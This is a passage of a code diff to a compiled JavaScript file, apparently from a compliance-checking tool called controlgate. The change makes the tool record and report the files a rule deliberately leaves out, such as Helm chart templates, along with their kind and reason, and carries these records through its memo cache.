      * the subject of an assessment (controlgate's own configuration and declarations).
@@ -40462,8 +41204,50 @@ class ScopeTally {
             }
         }
     }
-    /** How many distinct files, and the first {@link SCOPE_EXAMPLES} in the tree's order. */
+    /** Adds files a run of the rule left out (see `ScopeRecorder.leaveOut`). */
+    addLeftOut(parts) {
+        if (!parts)
+            return;
+        for (const part of parts) {
+            if (part.files.length === 0)
+                continue;
+            const key = `${part.kind}\u0000${part.reason}`;
+            this.left ??= new Map();
+            let entry = this.left.get(key);
+            if (!entry) {
+                entry = { kind: { kind: part.kind, reason: part.reason }, files: new Set() };
+                this.left.set(key, entry);
+            }
+            for (const i of part.files)
+                entry.files.add(i);
+        }
+    }
+    /** What the rule left out, by kind (in the order of their names), each with its first files in the tree's order. */
+    leftOut() {
+        if (!this.left)
+            return [];
+        return [...this.left.values()]
+            .map(({ kind, files }) => {
+            const sorted = [...files].sort((a, b) => a - b);
+            return {
+                kind: kind.kind,
+                reason: kind.reason,
+                files: sorted.length,
+                examples: sorted.slice(0, LEFT_OUT_EXAMPLES).map((i) => this.files[i]),
+            };
+        })
+            .sort((a, b) => compareText(a.kind, b.kind) || compareText(a.reason, b.reason));
+    }
+    /**
+     * How many distinct files, and the first {@link SCOPE_EXAMPLES} in the tree's order; with what the
+     * rule left out, when it left something out.
+     */
     result() {
+        const leftOut = this.leftOut();
+        const examined = this.examined();
+        return leftOut.length > 0 ? { ...examined, leftOut } : examined;
+    }
+    examined() {
         const bits = this.bits;
         if (!bits)
             return { files: 0, examples: [] };
@@ -40487,6 +41271,9 @@ class ScopeTally {
         }
         return { files: this.counted, examples };
     }
+}
+function compareText(a, b) {
+    return a < b ? -1 : a > b ? 1 : 0;
 }
 function emptyInputs() {
     return {
@@ -41106,6 +41893,11 @@ class Workspace {
     selected = new Map();
     /** By kind, then by file (no key string built per lookup: the secrets memo alone is asked per rule and file). */
     memos = new Map();
+    /**
+     * What computing a memo's value left out (see {@link leaveOut}), handed to every rule that gets the
+     * value; apart from the entries, since nearly none leaves anything out.
+     */
+    memoLeft;
     /** Directories known to be real (true) or a symlink or missing (false) on the way to a file. */
     directories = new Map();
     /** The directory of the last file opened, and its answer (see {@link realDirectoryOf}). */
@@ -41262,6 +42054,15 @@ class Workspace {
                 this.scope.touch(f);
     }
     /**
+     * Records a file the running rule leaves out on purpose (a Helm chart template, which is no
+     * manifest until rendered), with what kind of file it is and why: the report says so, instead of
+     * the file being skipped silently. Counted once per rule and kind, apart from what it examined.
+     */
+    leaveOut(file, kind) {
+        if (this.scope.active)
+            this.scope.leaveOut(file, kind);
+    }
+    /**
      * Narrows what the running rule examined to these files, of those it read: a rule that read a
      * family's files but found none of its subjects in most of them (a database rule among `.tf` files
      * without databases) examined only the files that hold its subjects, so a verdict never rests on a
@@ -41343,6 +42144,9 @@ class Workspace {
                 else
                     for (let i = 0; i < deps.length; i++)
                         this.scope.touchAt(deps[i]);
+                const left = this.memoLeft?.get(entry);
+                if (left)
+                    this.scope.replayLeft(left);
             }
             return entry.value;
         }
@@ -41355,19 +42159,27 @@ class Workspace {
         }
         catch (err) {
             this.scope.closeFrame(frame);
+            this.scope.takeLeft();
             throw err;
         }
         const stored = { value, deps: NO_DEPS };
         values.set(file, stored);
         if (value instanceof Promise) {
-            const settle = () => {
-                stored.deps = this.scope.closeFrame(frame);
-            };
+            const settle = () => this.settleMemo(stored, frame);
             value.then(settle, settle);
         }
         else
-            stored.deps = this.scope.closeFrame(frame);
+            this.settleMemo(stored, frame);
         return value;
+    }
+    /** Closes a memo's computation: what it read, and what it left out, go with its value. */
+    settleMemo(stored, frame) {
+        stored.deps = this.scope.closeFrame(frame);
+        const left = this.scope.takeLeft();
+        if (!left)
+            return;
+        this.memoLeft ??= new WeakMap();
+        this.memoLeft.set(stored, left);
     }
     /**
      * A file of the index (include and exclude do not apply: evidence may sit where no rule looks),
